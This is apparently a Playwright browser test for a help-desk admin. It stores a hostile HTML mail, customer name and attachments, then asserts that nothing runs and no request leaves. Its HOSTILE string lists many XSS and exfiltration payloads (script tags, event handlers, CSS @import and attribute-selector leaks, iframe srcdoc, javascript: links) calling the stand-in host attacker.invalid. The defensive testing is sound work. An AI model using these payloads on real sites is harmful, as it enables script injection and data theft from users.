"""A stranger's mail, names and files in a real browser: nothing of them runs, no request leaves for them."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Request

from channels_integrations.email.html import sanitise
from tests.security import scene as scenes
from tickets.models import Message
from tickets.services import attachments
from tickets.services.roles import set_up_roles

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("no_throttle")]

FAR = "http://attacker.invalid"
HOSTILE = f"""
<script>fetch('/pwned?script'); document.title = 'pwned'</script><script src="{FAR}/far.js"></script>
<img src=x onerror="new Image().src='/pwned?onerror'"><img src="{FAR}/pixel.gif"><img srcset="{FAR}/set.gif 2x">
<svg onload="fetch('/pwned?svg')"><image href="{FAR}/svg.png"/></svg>
<style>@import url({FAR}/css); body {{ background: url({FAR}/back.png) }}
input[value^="a"] {{ background: url('{FAR}/leak?a') }} @font-face {{ font-family: x; src: url({FAR}/font) }}
* {{ font-family: x }}</style>
<div style="background: url({FAR}/inline.png)">styled</div>
<link rel="stylesheet" href="{FAR}/sheet.css"><link rel="prefetch" href="{FAR}/prefetch">
<meta http-equiv="refresh" content="0;url={FAR}/refresh"><base href="{FAR}/">
<iframe src="{FAR}/frame"></iframe><iframe srcdoc="<script>parent.fetch('/pwned?srcdoc')</script>"></iframe>
<object data="{FAR}/object"></object><embed src="{FAR}/embed"><video src="{FAR}/video" autoplay></video>
<form action="{FAR}/form"><input name="a" value="a" autofocus onfocus="fetch('/pwned?focus')"></form>
<a id="click" href="javascript:fetch('/pwned?link')">click</a>
<details open ontoggle="fetch('/pwned?toggle')">x</details>
"""


@pytest.mark.parametrize("is_sanitised", [True, False], ids=["sanitised", "raw"])
def test_nothing_of_a_hostile_mail_runs_or_calls_home(page: Page, is_sanitised: bool) -> None:
    """Raw: what the policy of the page alone holds, should the sanitiser ever fail."""
    set_up_roles()
    scene = scenes.build()
    scenes.user_of("Ag")
    Message.objects.filter(pk=scene.ordinary.message.pk).update(
        html=sanitise(HOSTILE) if is_sanitised else HOSTILE, text=HOSTILE, subject=f"{HOSTILE[:200]}"
    )
    customer = scene.ordinary.ticket.customer
    assert customer
    customer.name, customer.note = HOSTILE[:110], HOSTILE
    customer.save()
    for name, kind in (("page.html", "text/html"), ("drawing.svg", "image/svg+xml"), ("photo.png", "image/png")):
        attachments.store(
            content=HOSTILE.encode(),
            name=name,
            content_type=kind,
            ticket=scene.ordinary.ticket,
            message=scene.ordinary.message,
            now=scene.ordinary.ticket.opened_at,
        )
    asked: list[str] = []
    blocked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.context.on("requestfailed", lambda request: blocked.append(request.url) if _by_policy(request) else None)
    page.goto("/admin/login/")
    page.fill("[name=username]", "ag@clearway.example")
    page.fill("[name=password]", "correct horse battery")
    page.click("#login-form button[type=submit]")
    page.wait_for_url("**/admin/tickets/ticket/")

    ticket = f"/admin/tickets/ticket/{scene.ordinary.ticket.pk}"
    page.goto(f"{ticket}/change/")
    page.locator("details[data-frame] summary").first.click()
    page.locator("details[data-frame] iframe").first.wait_for(state="attached")
    page.wait_for_timeout(500)
    assert page.title() != "pwned"
    page.goto(f"{ticket}/message/{scene.ordinary.message.pk}/")
    page.wait_for_timeout(500)
    if page.locator("#click").count():
        page.locator("#click").click(timeout=2_000, no_wait_after=True)
        page.wait_for_timeout(200)
    for place in (f"{ticket}/log/", "/admin/tickets/ticket/?q=where", "/admin/logistics/customer/"):
        page.goto(place)
        page.wait_for_timeout(200)

    left = [address for address in asked if address not in blocked and not address.startswith(("data:", "blob:"))]
    assert [one for one in left if "pwned" in one or urlsplit(one).hostname != urlsplit(page.url).hostname] == []
    assert len(asked) > 10


def _by_policy(request: Request) -> bool:
    """Whether the browser stopped a request before it left, because the page's policy forbids it."""
    return str(request.failure) in ("csp", "net::ERR_BLOCKED_BY_CSP")
